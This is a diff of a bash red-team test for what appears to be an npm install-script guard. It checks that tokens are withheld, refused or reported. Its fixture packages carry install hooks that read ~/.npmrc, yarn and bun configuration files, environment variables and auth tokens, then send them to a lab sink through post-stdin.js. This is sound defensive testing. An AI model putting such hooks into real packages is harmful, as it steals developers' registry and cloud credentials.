@@ -1,11 +1,8 @@
 #!/bin/bash
-# R16: what no honest script needs is not there to be stolen: the secrets of the environment. Each
-# script is held at its exec until they are gone; a helper of the same package that continues it
-# early gains nothing.
-#
-# Known limit: honest scripts read ~/.npmrc, too, so a small theft of what it holds is reported and
-# not stopped. If that part fails because nothing leaves any more, invert it and remove the limit
-# from SECURITY.md.
+# R16: what no honest script needs is not there to be stolen: the secrets of the environment, and
+# the tokens in the configuration of package managers. Each script is held at its exec until its
+# environment is free of them; a helper of the same package that continues it early gains nothing.
+# A file with a token is there for npm itself, and for nobody in a package.
 set -u
 cd "$(dirname "$0")/../.." || exit 2
 . tests/redteam/lib.sh
@@ -21,19 +18,51 @@ rt_package read-python-x 1.0.0 files preinstall \
 	"python3 -c 'import os; print(dict(os.environb))' | node post-stdin.js"
 rt_package read-nested-x 1.0.0 files postinstall \
 	'npm run --silent again; npm config list -l | node post-stdin.js'
+rt_package read-npm-x 1.0.0 files postinstall \
+	'(npm config list --json; cat "$npm_config_userconfig") | node post-stdin.js'
+rt_package read-get-x 1.0.0 files postinstall \
+	'npm config get "//${npm_config_registry#*//}:_authToken" | node post-stdin.js'
+rt_package read-bash-x 1.0.0 files preinstall \
+	"bash -c 'printenv; echo \"\$(<~/.npmrc)\"; cat ~/.yarnrc.yml ~/.bunfig.toml' |
+	node post-stdin.js"
+rt_package read-pyfile-x 1.0.0 files install \
+	"python3 -c 'import os; print(open(os.environ[\"INIT_CWD\"] + \"/.npmrc\").read())' |
+	node post-stdin.js"
+rt_package read-linked-x 1.0.0 files postinstall \
+	'cat "$INIT_CWD/notes.txt" /proc/self/root$HOME/.npmrc | node post-stdin.js'
+rt_package read-program-x 1.0.0 files preinstall \
+	"for m in openat openat2 mmap uring thread; do ./bin/open \$m ~/.npmrc $RT_SINK; done" open
+# what the job wrote itself, in the forms of other managers; one file has a second name
+rt_setup() {
+	local name token
+	for name in .yarnrc.yml .bunfig.toml work/app/.npmrc; do
+		token=$(head -c 20 /dev/urandom | od -An -tx1 | tr -d ' \n')
+		case $name in
+		*.yml) echo "npmAuthToken: \"$token\"" ;;
+		*.toml) echo "install.registry = { url = 'http://h/', token = '$token' }" ;;
+		*) echo "//127.0.0.1:9/:_authToken=$token" ;;
+		esac >"$RT_HOME/$name"
+		chown "$LAB_UID:$LAB_GID" "$RT_HOME/$name"
+		rt_canary "$name" "$token"
+	done
+	ln "$RT_HOME/.npmrc" "$RT_PROJECT/notes.txt"
+}
 
 rt_control
-rt_leaked .npmrc env:NPM_TOKEN env:GITHUB_TOKEN env:AWS_SECRET_ACCESS_KEY
+rt_leaked .npmrc .yarnrc.yml .bunfig.toml work/app/.npmrc env:NPM_TOKEN env:GITHUB_TOKEN \
+	env:AWS_SECRET_ACCESS_KEY
 
 if rt_guarded; then
-	rt_ok 'known limit: the npmrc leaves' rt_has_leaked .npmrc
-	rt_is 'nothing of the environment at the sink' "$(lab_leaked web | grep '^env:')" ''
-	rt_ok 'reading the npmrc is reported' \
-		[ -n "$(rt_events 'rule.id=npmrc-read' package.name=read-npmrc-x)" ]
+	rt_is 'at the sink' "$(lab_leaked web)" ''
 	rt_ok 'the log names what was withheld' \
 		[ -n "$(rt_events 'wormsign.withheld.names=NPM_TOKEN')" ]
-	rt_is 'files of value beyond these at the sink' \
-		"$(lab_leaked web | grep -vE '^(env:|\.npmrc$)')" ''
+	for name in read-npmrc-x read-bash-x read-pyfile-x read-linked-x read-program-x; do
+		rt_ok "it names who was refused a file: $name" \
+			[ -n "$(rt_events 'rule.id=npmrc-hidden' wormsign.effect=refused \
+			"package.name=$name")" ]
+	done
+	rt_is 'accused: who asks for a token by name' "$(rt_accusations '."package.name"')" \
+		read-get-x
 	rt_files_kept
 	rt_no_survivors
 	rt_honest_installed
